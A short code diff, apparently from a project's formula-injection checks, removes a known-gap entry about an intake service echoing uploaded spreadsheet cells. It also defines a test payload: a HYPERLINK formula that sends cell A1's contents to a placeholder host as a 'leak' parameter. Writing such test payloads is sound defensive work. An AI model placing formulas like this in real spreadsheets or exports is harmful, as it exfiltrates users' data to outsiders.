@@ -24,7 +24,6 @@ NOT_USER_TEXT = {
     "commands/resolve.py": "machine output of `lienket resolve`: the input file's own ids and entity labels",
 }
 KNOWN_GAPS = {
-    "web/intake/services.py": "the error report echoes uploaded cells as they were typed",
 }
 PAYLOAD = '=HYPERLINK("http://example.invalid/?leak="&A1,"Bấm vào đây")'
 
